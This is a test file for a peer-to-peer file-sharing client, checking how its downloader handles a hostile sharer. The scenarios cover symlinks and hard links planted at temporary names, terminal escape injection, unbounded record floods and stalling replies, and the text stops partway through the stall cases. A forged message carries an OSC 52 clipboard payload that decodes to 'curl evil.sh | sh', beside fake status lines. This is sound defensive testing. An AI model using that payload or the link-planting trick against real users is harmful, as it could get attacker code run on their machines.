import assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, promises as fs } from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import * as tls from 'node:tls';
import * as v8 from 'node:v8';
import * as vm from 'node:vm';
import { describe, it } from 'node:test';
import { DISGUISING_CHARS, connectToPeer, download, formatInvite, isErrorCode, type DownloadResult, type Identity, type Limits, type PeerConnection } from '../../src/core';
import { blockSizeFor } from '../../src/core/blocks';
import { encodeDataHeader, encodeMessage } from '../../src/core/frames';
import { ConnectionFrameType, encodeConnectionHeader, encodeMessageFrame } from '../../src/core/v2/frames';
import { manifestOfBytes } from '../../src/core/v2/share-messages';
import { makePeer, tempDir, type TestPeer } from '../helpers';
import { sendBlocks, sendManifest, startHostileSharerV2, type ReplierV2, type ScenarioV2 } from '../hostile';
import { assertOnlyChanged, buildWorld, type Snapshot, type World } from './world';

/**
 * The receiving side of issue 16, as named scenarios against a real client over real TLS, with a
 * file-system oracle: temporary files planted as symlinks and hard links (finding 1), names of
 * 223-255 bytes are in transfer.test.ts (finding 11), escape sequences in skipped-file records
 * (finding 4), counts and byte totals a hostile sharer sends (findings 5 and 13), and a sharer
 * that keeps a request waiting (finding 8). The sharer speaks protocol v2 (share/1, spec 6) and
 * lies in it.
 */

/** A full garbage collection, so a test can measure what is held rather than when V8 chose to collect. */
const collectGarbage: () => void = (() => {
  v8.setFlagsFromString('--expose-gc');
  return vm.runInNewContext('gc') as () => void;
})();

const ROOT = path.join(__dirname, '..', '..');
const CLI = path.join(ROOT, 'dist', 'cli.js');
const MTIME = 1000;
const hashOf = (content: Buffer): string => manifestOfBytes(content, blockSizeFor(content.length)).fileHash.toString('hex');

/** A hidden temporary name of the form downloads use, as anyone who knows what tags it can work out. */
function tagged(dir: string, base: string, peerId: string, remotePath: string, size: number, mtimeMs: number): string {
  const tag = createHash('sha256').update(`${peerId}\n${remotePath}\n${size}\n${mtimeMs}`).digest('hex').slice(0, 16);
  return path.join(dir, `.${base}.${tag}.peershare-part`);
}

/** Where an inline file of a folder download is written before it is saved: tagged by the peer, its path, size and time. */
const predictedTemporary = (dir: string, base: string, peerId: string, remotePath: string, size: number): string => tagged(dir, base, peerId, remotePath, size, MTIME);

/** Where a file fetched as blocks is written before it is saved: tagged by its content (file hash and size), from any peer. */
const predictedPartial = (dir: string, base: string, content: Buffer): string => tagged(dir, base, '', `blake3:${hashOf(content)}`, content.length, 0);

/** An inline file record of a folder stream (REPLY file + its bytes), with `content`'s hash unless another is given. */
async function sendFile(reply: ReplierV2, name: string, content: Buffer, fileHash = hashOf(content)): Promise<void> {
  await reply.message({ type: 'file', path: name, size: content.length, mtimeMs: MTIME, blockSize: blockSizeFor(content.length), fileHash });
  if (content.length) await reply.data(content);
}

/**
 * Answers stat for `ws/d` as a folder, then sends `records` for the tree (its return is the END);
 * files named by `fileRef` are answered from `refs` (path below `ws/d` -> content), their reads by
 * `read` (honest by default).
 */
function treeScenario(
  records: (reply: ReplierV2) => Promise<Record<string, unknown> | void>,
  refs: Record<string, Buffer> = {},
  read: (req: Record<string, unknown>, reply: ReplierV2, content: Buffer) => Promise<Record<string, unknown>> = sendBlocks,
): ScenarioV2 {
  return (req, reply) => {
    if (req.type === 'share.stat') return { entry: { name: 'd', type: 'dir', size: 0, mtimeMs: MTIME } };
    if (req.type === 'share.tree') return records(reply);
    const ref = refs[String(req.path).replace(/^ws\/d\//, '')];
    if (ref && req.type === 'share.manifest') return sendManifest(reply, ref);
    if (ref && req.type === 'share.read') return read(req, reply, ref);
    return undefined;
  };
}

/** Answers stat and manifest for `ws/f.txt` of `content` honestly, and its reads by `read` (honest by default). */
function fileScenario(content: Buffer, read: (req: Record<string, unknown>, reply: ReplierV2) => ReturnType<ScenarioV2> = (req, reply) => sendBlocks(req, reply, content)): ScenarioV2 {
  return (req, reply) => {
    if (req.type === 'share.stat') return { entry: { name: 'f.txt', type: 'file', size: content.length, mtimeMs: MTIME } };
    if (req.type === 'share.manifest') return sendManifest(reply, content);
    if (req.type === 'share.read') return read(req, reply);
    return undefined;
  };
}

/** Sends what `next` gives, as fast as the requester's credit lets it, until `next` says stop or the request is cancelled. */
async function pump(reply: ReplierV2, next: () => object | undefined): Promise<void> {
  for (let m = next(); m && !reply.signal.aborted; m = next()) await reply.message(m as Record<string, unknown>);
}

/** Calls `send` every `everyMs` until the connection closes; never answers (a promise that does not settle). */
function every(reply: ReplierV2, everyMs: number, send: () => unknown): Promise<never> {
  const timer = setInterval(() => {
    if (reply.stream.destroyed) return clearInterval(timer);
    Promise.resolve(send()).catch(() => clearInterval(timer));
  }, everyMs);
  reply.stream.once('close', () => clearInterval(timer));
  return new Promise(() => undefined);
}

/** A connection frame header (spec 3.2) announcing `length` bytes: the connection's own encoder. */
const frameHeader = (type: keyof typeof ConnectionFrameType, length: number, id: number): Buffer => encodeConnectionHeader(ConnectionFrameType[type], length, id);

/** The ids of a single-file download's requests (the dialer's ids are odd, from 1: spec 5.1): stat, manifest, read. */
const STAT_ID = 1;
const READ_ID = 5;

interface Run {
  world: World;
  victim: TestPeer;
  hostile: Identity;
  outcome: string;
  error?: Error;
  value?: unknown;
  ms: number;
  /** The sharer saw one of its answers cancelled by the requester (or the connection end under it). */
  sharerSawCancel: boolean;
}

/**
 * Runs `action` against a hostile sharer in a fresh world; `plant` runs after the world is built
 * (and before the snapshot the checks compare with) and may use the hostile peer's ID.
 * A run that has not ended after `capMs` counts as a hang.
 */
async function against(
  scenario: ScenarioV2,
  action: (conn: PeerConnection, world: World) => Promise<unknown>,
  options: { limits?: Partial<Limits>; plant?: (world: World, hostile: Identity) => Promise<void>; capMs?: number } = {},
): Promise<Run & { before: Snapshot }> {
  const world = await buildWorld();
  const victim = await makePeer();
  const hostile = (await makePeer()).identity;
  await options.plant?.(world, hostile);
  const before = await world.snapshot();
  let sharerSawCancel = false;
  let conn: PeerConnection | undefined;
  const server = await startHostileSharerV2(hostile, (req, reply) => {
    reply.signal.addEventListener('abort', () => (sharerSawCancel ||= conn?.closed === false), { once: true });
    return scenario(req, reply);
  });
  const started = Date.now();
  let outcome = 'ok';
  let error: Error | undefined;
  let value: unknown;
  let cap: NodeJS.Timeout | undefined;
  try {
    conn = await connectToPeer({ identity: victim.identity, trust: victim.trust, addresses: [server.address], expectedPeerId: hostile.peerId, name: 'victim', limits: { stallTimeoutMs: 2000, ...options.limits } });
    const c = conn;
    value = await Promise.race([
      action(c, world),
      new Promise((_, reject) => {
        cap = setTimeout(() => reject(Object.assign(new Error('still waiting: a hang'), { code: 'HANG' })), options.capMs ?? 30_000);
      }),
    ]);
  } catch (err) {
    error = err as Error;
    outcome = (err as { code?: string }).code ?? `uncoded: ${String(err)}`;
  }
  clearTimeout(cap);
  const ms = Date.now() - started;
  // Give the sharer a moment to see a CANCEL the failure sent, then hang up and stop it.
  await new Promise((r) => setTimeout(r, 50));
  conn?.close();
  await server.close();
  return { world, victim, hostile, outcome, error, value, ms, sharerSawCancel, before };
}

/** Compared without printing: a failure must not dump megabytes. */
async function assertBytes(file: string, expected: Buffer | string, what: string): Promise<void> {
  const actual = await fs.readFile(file);
  assert.ok(actual.equals(Buffer.from(expected)), `${what}: ${actual.length} bytes, starting ${JSON.stringify(actual.subarray(0, 40).toString('latin1'))}`);
}

const assertOutsideUnchanged = (world: World): Promise<void> => assertBytes(path.join(world.outside, 'secret.txt'), world.secret, 'the outside file is byte for byte unchanged');

function assertOutcome(run: Run, expected: string): void {
  assert.equal(run.outcome, expected, `outcome ${run.outcome}${run.error ? ` (${run.error.message})` : ''}`);
}

const SMALL = Buffer.from('the peer’s verified bytes\n');
const LARGE = Buffer.alloc(600 * 1024, 0x5a);

describe('finding 1: temporary files planted as links are never written through', () => {
  // A small file comes inline in the folder stream, its temporary name tagged by the peer and path;
  // a large one by reference, fetched as blocks into a partial file tagged by its content.
  for (const [content, what, byRef] of [
    [SMALL, 'small (inline)', false],
    [LARGE, 'large (by reference, in blocks)', true],
  ] as const) {
    const temporaryOf = (world: World, hostile: Identity): string =>
      byRef ? predictedPartial(path.join(world.ws, 'd'), 'f.bin', content) : predictedTemporary(path.join(world.ws, 'd'), 'f.bin', hostile.peerId, 'ws/d/f.bin', content.length);
    const send = (reply: ReplierV2, fileHash?: string): Promise<void> =>
      byRef ? reply.message({ type: 'fileRef', path: 'f.bin', size: content.length, mtimeMs: MTIME }) : sendFile(reply, 'f.bin', content, fileHash);

    for (const kind of ['symlink', 'hard link'] as const) {
      it(`a ${kind} planted at the temporary name of a ${what} file in a folder download: outside unchanged, the final name is a regular file with the peer's bytes`, async () => {
        const run = await against(
          treeScenario(async (reply) => (await send(reply), { count: 1 }), { 'f.bin': content }),
          (conn, world) => download(conn, 'ws/d', world.ws),
          {
            plant: async (world, hostile) => {
              await fs.mkdir(path.join(world.ws, 'd'));
              const temporary = temporaryOf(world, hostile);
              if (kind === 'symlink') await fs.symlink(path.join(world.outside, 'secret.txt'), temporary);
              else await fs.link(path.join(world.outside, 'secret.txt'), temporary);
            },
          },
        );
        assertOutcome(run, 'ok');
        assert.equal((run.value as DownloadResult).resumedBytes, 0, 'nothing planted is taken as a partial download');
        const finalName = path.join(run.world.ws, 'd', 'f.bin');
        assert.ok((await fs.lstat(finalName)).isFile(), 'the final name is a regular file, not a link');
        await assertBytes(finalName, content, 'the final name holds the peer’s verified bytes');
        await assertOutsideUnchanged(run.world);
        // A hard link's target changes its ctime when the link is removed; its bytes must not change.
        assertOnlyChanged(run.before, await run.world.snapshot(), ['ws/d*', ...(kind === 'hard link' ? ['outside/secret.txt'] : [])]);
      });
    }

    it(`a symlink planted at the temporary name of a ${what} file with a wrong hash: HASH_MISMATCH, outside unchanged, no final name`, async () => {
      const run = await against(
        byRef
          ? // The block list is honest; the blocks sent are not.
            treeScenario(async (reply) => (await send(reply), { count: 1 }), { 'f.bin': content }, (req, reply) => sendBlocks(req, reply, Buffer.alloc(content.length, 0x21)))
          : treeScenario(async (reply) => (await send(reply, '0'.repeat(64)), { count: 1 })),
        (conn, world) => download(conn, 'ws/d', world.ws),
        {
          plant: async (world, hostile) => {
            await fs.mkdir(path.join(world.ws, 'd'));
            await fs.symlink(path.join(world.outside, 'secret.txt'), temporaryOf(world, hostile));
          },
        },
      );
      assertOutcome(run, 'HASH_MISMATCH');
      assert.equal(existsSync(path.join(run.world.ws, 'd', 'f.bin')), false, 'nothing under the final name');
      await assertOutsideUnchanged(run.world);
      assertOnlyChanged(run.before, await run.world.snapshot(), ['ws/d*']);
    });
  }

  it('a temporary file swapped for a symlink just before it is saved: IO_ERROR, the final name never stays a link, outside unchanged', async () => {
    let temporary = '';
    let filled = false;
    const run = await against(
      treeScenario(
        async (reply) => (await reply.message({ type: 'fileRef', path: 'f.bin', size: LARGE.length, mtimeMs: MTIME }), { count: 1 }),
        { 'f.bin': LARGE },
        async (req, reply, content) => {
          await sendBlocks(req, reply, content);
          filled = true;
          // The local accomplice swaps the temporary file meanwhile (below), before the read's END.
          await new Promise((r) => setTimeout(r, 500));
          return {};
        },
      ),
      async (conn, world) => {
        const downloading = download(conn, 'ws/d', world.ws);
        const swapped = (async () => {
          const started = Date.now();
          while (!filled || (await fs.stat(temporary).catch(() => undefined))?.size !== LARGE.length) {
            if (Date.now() - started > 5000) throw new Error('the temporary file never filled');
            await new Promise((r) => setTimeout(r, 5));
          }
          await fs.rename(temporary, path.join(world.ws, 'd', 'moved-away'));
          await fs.symlink(path.join(world.outside, 'secret.txt'), temporary);
        })();
        try {
          return await downloading;
        } finally {
          await swapped;
        }
      },
      {
        plant: async (world) => {
          temporary = predictedPartial(path.join(world.ws, 'd'), 'f.bin', LARGE);
        },
      },
    );
    assertOutcome(run, 'IO_ERROR');
    assert.equal(existsSync(path.join(run.world.ws, 'd', 'f.bin')), false, 'nothing under the final name');
    await assertOutsideUnchanged(run.world);
    assertOnlyChanged(run.before, await run.world.snapshot(), ['ws/d*']);
  });

  const single = Buffer.alloc(100, 0x61);
  for (const kind of ['symlink', 'hard link'] as const) {
    it(`a ${kind} planted at a single-file download's temporary name is not resumed nor written through`, async () => {
      const run = await against(fileScenario(single), (conn, world) => download(conn, 'ws/f.txt', world.ws), {
        plant: async (world) => {
          const temporary = predictedPartial(world.ws, 'f.txt', single);
          if (kind === 'symlink') await fs.symlink(path.join(world.outside, 'secret.txt'), temporary);
          else await fs.link(path.join(world.outside, 'secret.txt'), temporary);
        },
      });
      assertOutcome(run, 'ok');
      assert.equal((run.value as DownloadResult).resumedBytes, 0, 'nothing planted is taken as a partial download');
      const finalName = path.join(run.world.ws, 'f.txt');
      assert.ok((await fs.lstat(finalName)).isFile());
      await assertBytes(finalName, single, 'the final name holds the peer’s verified bytes');
      await assertOutsideUnchanged(run.world);
      assertOnlyChanged(run.before, await run.world.snapshot(), ['ws/f.txt', 'ws/.f.txt.*', ...(kind === 'hard link' ? ['outside/secret.txt'] : [])]);
      assert.deepEqual((await fs.readdir(run.world.ws)).filter((n) => n.endsWith('.peershare-part')), [], 'the planted link is gone');
    });
  }

  it('a partial download that is ours (one link, our file, not too long) is still resumed, from its verified blocks', async () => {
    // Three blocks; the first is in the partial file, and half of the second.
    const blockSize = blockSizeFor(300 * 1024);
    const content = Buffer.alloc(2 * blockSize + 1000);
    for (let i = 0; i < content.length; i++) content[i] = (i * 7) % 251;
    const run = await against(fileScenario(content), (conn, world) => download(conn, 'ws/f.txt', world.ws), {
      plant: async (world) => {
        await fs.writeFile(predictedPartial(world.ws, 'f.txt', content), content.subarray(0, blockSize + blockSize / 2), { mode: 0o644 });
      },
    });
    assertOutcome(run, 'ok');
    assert.equal((run.value as DownloadResult).resumedBytes, blockSize, 'the verified block is kept, the half block fetched again');
    await assertBytes(path.join(run.world.ws, 'f.txt'), content, 'the file is whole');
  });
});

describe('finding 4: skipped-file records cannot write to the terminal', () => {
  const FORGED = '\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\r\nDownloaded 1 file (1 B) to /home/you in 0.01 s, verified with BLAKE3.\n\u001b[2K';
  /** A folder with a good file and a skipped record whose code and message are the peer's. */
  const skips = (code: string): ScenarioV2 =>
    treeScenario(async (reply) => {
      await sendFile(reply, 'good.txt', SMALL);
      await reply.message({ type: 'skipped', path: 'gone.txt', code, message: FORGED.repeat(50) });
      return { count: 1 };
    });
  const hostileSkips = skips('PERMISSION_DENIED');

  it('a known code with a long message carrying escapes: the message is escaped and bounded', async () => {
    const run = await against(hostileSkips, (conn, world) => download(conn, 'ws/d', world.ws));
    assertOutcome(run, 'ok');
    const [skipped] = (run.value as DownloadResult).skippedByPeer;
    assert.equal(skipped.code, 'PERMISSION_DENIED');
    assert.ok(isErrorCode(skipped.code));
    assert.doesNotMatch(skipped.message, DISGUISING_CHARS);
    assert.doesNotMatch(skipped.path, DISGUISING_CHARS);
    assert.ok(skipped.message.length <= 2000, `message of ${skipped.message.length} chars`);
  });

  it('a code outside the known ones: the record breaks share/1 (6.3: a request-level wire code), PROTOCOL_ERROR, shown escaped and bounded', async () => {
    // v1 kept such a record under PROTOCOL_ERROR; v2's tree reader refuses it.
    const run = await against(skips(FORGED), (conn, world) => download(conn, 'ws/d', world.ws));
    assertOutcome(run, 'PROTOCOL_ERROR');
    assert.doesNotMatch(run.error!.message, DISGUISING_CHARS);
    assert.ok(run.error!.message.length <= 500, `message of ${run.error!.message.length} chars`);
  });

  /** Runs `peershare get` against a hostile sharer; returns everything it printed. */
  async function cliGet(scenario: ScenarioV2, args?: (invite: string, dest: string) => string[]): Promise<{ stdout: string; stderr: string; code: number }> {
    const built = spawnSync(process.execPath, [path.join(ROOT, 'esbuild.js')], { cwd: ROOT, stdio: 'inherit' });
    assert.equal(built.status, 0, 'the CLI builds');
    const hostile = (await makePeer()).identity;
    const server = await startHostileSharerV2(hostile, scenario);
    const invite = formatInvite({ peerId: hostile.peerId, addresses: [server.address], token: 'x'.repeat(32) });
    const dest = tempDir();
    try {
      return await new Promise((resolve) => {
        execFile(process.execPath, [CLI, ...(args ? args(invite, dest) : ['get', invite, 'ws/d', dest]), '--home', tempDir()], { timeout: 60_000 }, (err, stdout, stderr) =>
          resolve({ stdout, stderr, code: err ? Number((err as { code?: number }).code ?? 1) : 0 }),
        );
      });
    } finally {
      await server.close();
    }
  }

  const assertClean = (text: string): void => {
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(text, /[\u001b\u0007\r\u009b\u009d]/, 'no escape, bell or carriage return from the peer');
  };

  it('get prints escape sequences, OSC 52 and a forged "Downloaded" line from a message as plain text on one line', async () => {
    const { stdout, stderr, code } = await cliGet(hostileSkips);
    assert.equal(code, 0, stderr);
    assertClean(stdout + stderr);
    const lines = stdout.trimEnd().split('\n');
    assert.equal(lines.filter((l) => l.startsWith('Downloaded')).length, 1, 'one Downloaded line, ours');
    assert.equal(lines.length, 2, `one line for the download and one for the skipped file:\n${stdout}`);
  });

  it('get refuses a skipped record whose code is escape sequences and a forged line: one plain line on stderr, no Downloaded line', async () => {
    const { stdout, stderr, code } = await cliGet(skips(FORGED));
    assert.notEqual(code, 0);
    assertClean(stdout + stderr);
    assert.match(stderr, /PROTOCOL_ERROR/);
    assert.equal(stderr.trimEnd().split('\n').length, 1, `one line:\n${stderr}`);
    assert.equal(stdout.includes('Downloaded'), false);
  });

  it('get shows a skipped record whose path carries escapes with every escape made visible, on one line', async () => {
    const { stdout, stderr, code } = await cliGet(
      treeScenario(async (reply) => {
        await reply.message({ type: 'skipped', path: FORGED, code: 'NOT_FOUND', message: 'x' });
        return { count: 0 };
      }),
    );
    assert.equal(code, 0, stderr);
    assertClean(stdout + stderr);
    const lines = stdout.trimEnd().split('\n');
    assert.equal(lines.filter((l) => l.startsWith('Downloaded')).length, 1, `one Downloaded line, ours:\n${stdout}`);
    assert.match(lines[1], /^The peer could not send \\u001b\]0;pwned/);
    assert.equal(lines.length, 2);
  });

  // Found by the outside review of this round: the client quoted a message type the peer chose.
  // Over v2 that message is the REPLY to the listing, the file's manifest or the folder's tree.
  for (const [command, args] of [
    ['ls', (invite: string) => ['ls', invite, 'ws']],
    ['get of a file', (invite: string, dest: string) => ['get', invite, 'ws/f.txt', dest]],
    ['get of a folder', (invite: string, dest: string) => ['get', invite, 'ws/d', dest]],
  ] as const) {
    it(`${command}: an answer whose message type carries escapes and a forged line is quoted escaped`, async () => {
      const { stdout, stderr, code } = await cliGet(async (req, reply) => {
        if (req.type === 'share.stat') return { entry: { name: String(req.path).split('/').pop(), type: String(req.path).endsWith('d') ? 'dir' : 'file', size: 1, mtimeMs: 1000 } };
        await reply.message({ type: FORGED });
        return new Promise(() => undefined);
      }, args);
      assert.notEqual(code, 0);
      assertClean(stdout + stderr);
      assert.match(stderr, /PROTOCOL_ERROR/);
      assert.equal(stderr.trimEnd().split('\n').length, 1, `one line:\n${stderr}`);
    });
  }

  it('get stops at a skipped record whose path is malformed (a parent component): BAD_NAME', async () => {
    const { stdout, stderr, code } = await cliGet(
      treeScenario(async (reply) => {
        await reply.message({ type: 'skipped', path: `../${FORGED}`, code: 'NOT_FOUND', message: 'x' });
        return { count: 0 };
      }),
    );
    assert.notEqual(code, 0);
    assertClean(stdout + stderr);
    assert.match(stderr, /BAD_NAME/);
    assert.equal(stdout.includes('Downloaded'), false);
  });
});

describe('finding 5 and 13: every count and byte total a sharer sends is bounded', () => {
  it('endless skipped records end with TOO_LARGE at the tree limit, keeping at most maxSkippedReports of them', async () => {
    let sent = 0;
    collectGarbage();
    const heapBefore = process.memoryUsage().heapUsed;
    let heapPeak = heapBefore;
    let retainedPeak = 0;
    // What the client holds, measured after a collection every half second; garbage-included peaks
    // depend on when V8 chooses to collect, and swung between 97 and 130 MiB on a loaded box.
    let ticks = 0;
    const sampler = setInterval(() => {
      heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed);
      if (++ticks % 25 === 0) {
        collectGarbage();
        retainedPeak = Math.max(retainedPeak, process.memoryUsage().heapUsed - heapBefore);
      }
    }, 20);
    const run = await against(
      treeScenario(async (reply) => {
        // Capped so a client that never stops ends too (with every record kept).
        await pump(reply, () => (sent < 300_000 ? { type: 'skipped', path: `gone-${sent++}-${'x'.repeat(100)}.txt`, code: 'PERMISSION_DENIED', message: 'y'.repeat(300) } : undefined));
        return { count: 0 };
      }),
      async (conn, world) => {
        try {
          return await download(conn, 'ws/d', world.ws);
        } finally {
          heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed);
        }
      },
      { capMs: 120_000 },
    );
    clearInterval(sampler);
    assertOutcome(run, 'TOO_LARGE');
    assert.ok(run.sharerSawCancel, 'the client cancelled the tree (its connection stays)');
    // The limit, plus what the requester's credit lets through.
    assert.ok(sent <= 200_001 + 50_000, `the client stopped reading near the limit (${sent} sent)`);
    const mib = (n: number): string => (n / 1048576).toFixed(1);
    console.log(`# endless skipped records: stopped after ${sent} sent; heap grew by ${mib(heapPeak - heapBefore)} MiB with garbage, ${mib(retainedPeak)} MiB held at most`);
    // About 29 MiB held (two 16-byte digests per path seen, and the reports kept); 200,000 records kept whole would hold over 100 MiB.
    assert.ok(retainedPeak < 64 * 1024 * 1024, `the client held up to ${mib(retainedPeak)} MiB`);
    assertOnlyChanged(run.before, await run.world.snapshot(), []);
  });

  it('records flooding in while a person answers a question are not read ahead without bound', async () => {
    let sent = 0;
    let sentWhenAnswered = 0;
    const run = await against(
      treeScenario(async (reply) => {
        await sendFile(reply, 'README.md', SMALL);
        await pump(reply, () => (sent < 500_000 ? { type: 'skipped', path: `gone-${sent++}-${'x'.repeat(100)}.txt`, code: 'PERMISSION_DENIED', message: 'y'.repeat(300) } : undefined));
        return { count: 1 };
      }),
      (conn, world) =>
        download(conn, 'ws/d', world.ws, {
          onConflict: async () => {
            // A person takes a while; the peer keeps sending meanwhile.
            await new Promise((r) => setTimeout(r, 1500));
            sentWhenAnswered = sent;
            return 'skip' as const;
          },
        }),
      { plant: async (world) => fs.mkdir(path.join(world.ws, 'd')).then(() => fs.writeFile(path.join(world.ws, 'd', 'README.md'), 'mine')), limits: { maxTreeFiles: 1000 }, capMs: 60_000 },
    );
    assertOutcome(run, 'TOO_LARGE');
    console.log(`# records the peer got through while a question was open: ${sentWhenAnswered}`);
    // What the requester's credit (its window) holds, not what 1.5 s of sending makes.
    assert.ok(sentWhenAnswered < 60_000, `${sentWhenAnswered} records sent while the question was open`);
    await assertBytes(path.join(run.world.ws, 'd', 'README.md'), 'mine', 'the existing file is left alone');
  });

  it('skipped reports beyond maxSkippedReports are counted, not kept', async () => {
    const run = await against(
      treeScenario(async (reply) => {
        for (let i = 0; i < 25; i++) await reply.message({ type: 'skipped', path: `gone-${i}.txt`, code: 'PERMISSION_DENIED', message: 'no' });
        return { count: 0 };
      }),
      (conn, world) => download(conn, 'ws/d', world.ws),
      { limits: { maxSkippedReports: 10 } },
    );
    assertOutcome(run, 'ok');
    const result = run.value as DownloadResult;
    assert.equal(result.skippedByPeer.length, 10);
    assert.equal(result.skippedByPeerCount, 25);
  });

  it('a listing of long names stops at maxListBytes of names (TOO_LARGE); one exactly at the limit is accepted', async () => {
    const name = (i: number): string => `${String(i).padStart(6, '0')}${'n'.repeat(994)}`; // 1000 bytes
    // Batches of 25 entries, so each REPLY fits the requester's frame (spec 6.3).
    const listing = (count: number): ScenarioV2 => async (_, reply) => {
      let i = 0;
      await pump(reply, () => (i >= count ? undefined : { type: 'entries', entries: Array.from({ length: Math.min(25, count - i) }, () => ({ name: name(i++), type: 'file', size: 1, mtimeMs: 1 })) }));
      return { count };
    };
    const atLimit = await against(listing(50), (conn) => conn.list('ws'), { limits: { maxListBytes: 50_000 } });
    assertOutcome(atLimit, 'ok');
    assert.equal((atLimit.value as unknown[]).length, 50);
    const over = await against(listing(51), (conn) => conn.list('ws'), { limits: { maxListBytes: 50_000 } });
    assertOutcome(over, 'TOO_LARGE');

    // With the default limits: a listing that never ends, of the longest names a listing carries.
    let sent = 0;
    const heapBefore = process.memoryUsage().heapUsed;
    const endless = await against(
      async (_, reply) => {
        await pump(reply, () =>
          sent < 100_000 ? { type: 'entries', entries: Array.from({ length: 50 }, () => ({ name: `${sent++}-${'L'.repeat(1000)}`.slice(0, 1024), type: 'file', size: 1, mtimeMs: 1 })) } : undefined,
        );
        return new Promise(() => undefined);
      },
      async (conn) => {
        try {
          return await conn.list('ws');
        } finally {
          console.log(`# endless listing of 1 KiB names: stopped after ${sent} entries sent; heap grew by ${((process.memoryUsage().heapUsed - heapBefore) / 1048576).toFixed(1)} MiB`);
        }
      },
      { capMs: 120_000 },
    );
    assertOutcome(endless, 'TOO_LARGE');
    // 16 MiB of 1 KiB names is about 16,400 entries, plus what the requester's credit lets through.
    assert.ok(sent < 40_000, `stopped near 16 MiB of names (${sent} entries sent)`);
  });

  it('100 nested folders, one at a time: TOO_LARGE past maxTreeDepth, and nothing deeper than it exists', async () => {
    const run = await against(
      treeScenario(async (reply) => {
        for (let depth = 1; depth <= 100; depth++) await reply.message({ type: 'dir', path: Array(depth).fill('n').join('/') });
        return { count: 0 };
      }),
      (conn, world) => download(conn, 'ws/d', world.ws),
    );
    assertOutcome(run, 'TOO_LARGE');
    let deepest = 0;
    for (let p = path.join(run.world.ws, 'd', 'n'); existsSync(p); p = path.join(p, 'n')) deepest++;
    assert.equal(deepest, 64, 'folders down to the default depth limit, none deeper');
  });

  it('a file 100 folders deep in one record: TOO_LARGE, nothing created', async () => {
    const run = await against(
      treeScenario(async (reply) => (await sendFile(reply, `${Array(100).fill('n').join('/')}/deep.txt`, SMALL), { count: 1 })),
      (conn, world) => download(conn, 'ws/d', world.ws),
    );
    assertOutcome(run, 'TOO_LARGE');
    assertOnlyChanged(run.before, await run.world.snapshot(), []);
  });

  it('a file by reference 100 folders deep: TOO_LARGE, nothing created, nothing fetched', async () => {
    const deep = `${Array(100).fill('n').join('/')}/deep.bin`;
    const run = await against(
      treeScenario(async (reply) => (await reply.message({ type: 'fileRef', path: deep, size: LARGE.length, mtimeMs: MTIME }), { count: 1 }), { [deep]: LARGE }, () => {
        throw new Error('no block may be asked for');
      }),
      (conn, world) => download(conn, 'ws/d', world.ws),
    );
    assertOutcome(run, 'TOO_LARGE');
    assertOnlyChanged(run.before, await run.world.snapshot(), []);
  });

  it('more files and folders than maxTreeFiles: TOO_LARGE at the first one over, what came before landed whole', async () => {
    const run = await against(
      treeScenario(async (reply) => {
        for (let i = 0; i < 10; i++) await reply.message({ type: 'dir', path: `dir${i}` });
        for (let i = 0; i < 100; i++) await sendFile(reply, `dir${i % 10}/f${i}.txt`, SMALL);
        return { count: 100 };
      }),
      (conn, world) => download(conn, 'ws/d', world.ws),
      { limits: { maxTreeFiles: 50 } },
    );
    assertOutcome(run, 'TOO_LARGE');
    const landed = Object.entries(await run.world.snapshot()).filter(([p, v]) => p.startsWith('ws/d/') && v.startsWith('file '));
    assert.equal(landed.length, 40, '10 folders and 40 files make the 50 allowed');
    for (const [p] of landed) assert.deepEqual(await fs.readFile(path.join(run.world.base, p)), SMALL);
  });
});

describe('finding 8: a sharer cannot keep a request waiting', () => {
  // Shrunk to milliseconds; the asserts below leave seconds of slack for a loaded machine.
  const limits: Partial<Limits> = { stallTimeoutMs: 400, requestTimeoutMs: 1500, helloTimeoutMs: 600 };
  const deadlineMs = 1500;
  const SLACK_MS = 8000;
  const ZERO_DATA = encodeDataHeader(0);

  function assertTimedOut(run: Run): void {
    assertOutcome(run, 'TIMEOUT');
    assert.ok(run.ms < deadlineMs + SLACK_MS, `ended after ${run.ms} ms`);
  }

  const big = 1024 * 1024;
  const BIG = Buffer.alloc(big, 3);
  const ZERO_DATA_V2 = (id: number): Buffer => frameHeader('DATA', 0, id);
  const cases: [string, ScenarioV2, (conn: PeerConnection, world: World) => Promise<unknown>, string[]][] = [
    [
      'an answer dripped one byte at a time (a keep-alive below the message layer)',
      (req, reply) => {
        if (req.type !== 'share.stat') return undefined;
        const bytes = encodeMessageFrame('END', STAT_ID, { type: 'end', entry: { name: 'f.txt', type: 'file', size: 1, mtimeMs: MTIME }, pad: 'p'.repeat(10_000) });
        let i = 0;
        return every(reply, 50, () => i < bytes.length && reply.raw(bytes.subarray(i, ++i)));
      },
      (conn) => conn.stat('ws/f.txt'),
      [],
    ],
    [
      'a manifest header and then nothing of its block list',
      (req, reply) => {
        if (req.type === 'share.stat') return { entry: { name: 'f.txt', type: 'file', size: big, mtimeMs: MTIME } };
        const manifest = manifestOfBytes(BIG, blockSizeFor(big));
        return reply.message({ type: 'manifest', size: big, mtimeMs: MTIME, blockSize: manifest.blockSize, fileHash: manifest.fileHash.toString('hex') }).then(() => new Promise<never>(() => undefined));
      },
      (conn, world) => download(conn, 'ws/f.txt', world.ws),
      [],
    ],
    [
      'the same folder announced again and again in a folder download',
      treeScenario((reply) => every(reply, 50, () => reply.message({ type: 'dir', path: 'same' }))),
      (conn, world) => download(conn, 'ws/d', world.ws),
      ['ws/d*'],
    ],
    [
      'real progress, one file byte at a time (the overall deadline)',
      fileScenario(BIG, (_, reply) => every(reply, 50, () => reply.data(Buffer.from([3])))),
      (conn, world) => download(conn, 'ws/f.txt', world.ws),
      ['ws/.f.txt.*'],
    ],
    [
      'a listing dripped one entry at a time (the overall deadline)',
      (_, reply) => {
        let i = 0;
        return every(reply, 50, () => reply.message({ type: 'entries', entries: [{ name: `e${i++}`, type: 'file', size: 1, mtimeMs: 1 }] }));
      },
      (conn) => conn.list('ws'),
      [],
    ],
    [
      'a folder download dripped one new empty file at a time (the overall deadline)',
      treeScenario((reply) => {
        let i = 0;
        return every(reply, 50, () => sendFile(reply, `e${i++}.txt`, Buffer.alloc(0)));
      }),
